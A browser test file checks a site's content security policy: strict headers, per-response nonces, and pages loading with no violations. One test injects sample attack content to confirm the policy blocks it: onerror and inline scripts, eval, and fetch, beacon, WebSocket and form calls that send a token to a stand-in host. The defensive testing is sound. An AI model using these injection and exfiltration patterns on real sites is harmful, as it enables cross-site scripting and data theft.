import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { openBrowser, visit, type Visit } from '@moontower/testkit/browser';

const PATHS = ['/', '/es', '/civic-pulse', '/pork-tracker', '/status', '/methods', '/embed/items', '/no-such-page'];
const base = () => inject('baseUrl');
let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());

/** What the browser refused on a page, by directive and what it was. */
async function watchRefusals(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('tellRefusal', (text: string) => {
    refused.push(text);
  });
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective, blockedURI, sourceFile, lineNumber, sample }) => {
        Reflect.apply(Reflect.get(globalThis, 'tellRefusal'), undefined, [
          `${location.pathname}: ${effectiveDirective} ${blockedURI} ${sourceFile ?? ''}:${lineNumber} ${sample}`,
        ]);
      },
    );
  });
  return refused;
}

describe('the content security policy', () => {
  it('names no inline script, no eval and no star', async () => {
    for (const path of PATHS) {
      const policy = (await fetch(`${base()}${path}`)).headers.get('content-security-policy') ?? '';
      expect(policy).toMatch(/default-src 'none'/);
      expect(
        policy
          .split(';')
          .filter((part) => /^(script|style|object|base)-/.test(part))
          .join(';'),
      ).not.toMatch(/unsafe-inline|unsafe-eval|\*|script-src[^;]* https?:/);
    }
  });

  it('gives each answer a nonce of its own', async () => {
    const nonces = await Promise.all(
      [1, 2].map(async () => {
        const answer = await fetch(`${base()}/`);
        const said = /'nonce-([\w-]{20,})'/.exec(answer.headers.get('content-security-policy') ?? '')?.[1];
        expect(await answer.text()).toContain(`property="csp-nonce" nonce="${said}"`);
        return said;
      }),
    );
    expect(new Set(nonces).size).toBe(2);
  });
});

/**
 * In one page, one after the other. Other screens are opened by `screens.browser`: there, each refusal is an error of
 * the console, and a fault of the page.
 */
describe('under the content security policy', () => {
  let visited: Visit;
  let refused: string[];
  beforeAll(async () => {
    visited = await visit(browser);
    refused = await watchRefusals(visited.page);
  });
  afterAll(() => visited.context.close());

  it('the map lives', async () => {
    const { page } = visited;
    await page.goto(`${base()}/civic-pulse`);
    await page.locator('#main h1').first().waitFor();
    await page.locator('[data-atlas] canvas').first().waitFor({ state: 'attached' });
    expect(refused).toEqual([]);
  });

  it('an address without a page is answered with 404 and with ways on, and something opens over a page', async () => {
    const { page } = visited;
    const response = await page.goto(`${base()}/no-such-page`);
    expect(response?.status()).toBe(404);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('404 Page Not Found');
    await page.getByRole('link', { name: 'Go to the data feed' }).click();
    await page.waitForURL((url) => url.pathname === '/');
    await page.locator('footer').waitFor({ state: 'attached' });
    await page.keyboard.press('Control+k');
    await page.getByRole('dialog').waitFor();
    await page.keyboard.press('Escape');
    expect(refused).toEqual([]);
  });

  it('an injected script is stopped: it would run, call home, load a picture, send a form, open a socket', async () => {
    const { page } = visited;
    const before = page.url();
    const ran = await page.evaluate(async () => {
      const place = document.createElement('div');
      document.body.append(place);
      place.innerHTML =
        '<img src="https://elsewhere.example/a.png" onerror="globalThis.ran = 1"><style>body { color: red }</style>';
      for (const [source, text] of [
        ['https://elsewhere.example/a.js', ''],
        ['', 'globalThis.ran = 2'],
      ] as const) {
        const script = document.createElement('script');
        if (source === '') script.textContent = text;
        else script.src = source;
        document.body.append(script);
      }
      const fails = async (act: () => unknown) => {
        try {
          await act();
          return false;
        } catch {
          return true;
        }
      };
      // The evaluation that DevTools asks for may use eval whatever the policy says; what it has started later may not.
      const evaluated = await new Promise((resolve) => {
        setTimeout(() => {
          void fails(() => Reflect.construct(Function, ['globalThis.ran = 3'])()).then(resolve);
        }, 0);
      });
      const fetched = await fails(() => fetch('https://elsewhere.example/?token=x'));
      navigator.sendBeacon('https://elsewhere.example/?token=x');
      await fails(() => new WebSocket('wss://elsewhere.example/'));
      const form = document.createElement('form');
      form.action = 'https://elsewhere.example/';
      document.body.append(form);
      form.submit();
      return { evaluated, fetched };
    });
    expect(ran).toEqual({ evaluated: true, fetched: true });
    const directives = () => new Set(refused.map((line) => line.split(' ')[1]));
    for (const directive of [
      'script-src-elem',
      'script-src-attr',
      'script-src',
      'style-src-elem',
      'img-src',
      'connect-src',
      'form-action',
    ])
      await expect.poll(() => [...directives()]).toContain(directive);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
    expect(page.url()).toBe(before);
  });
});
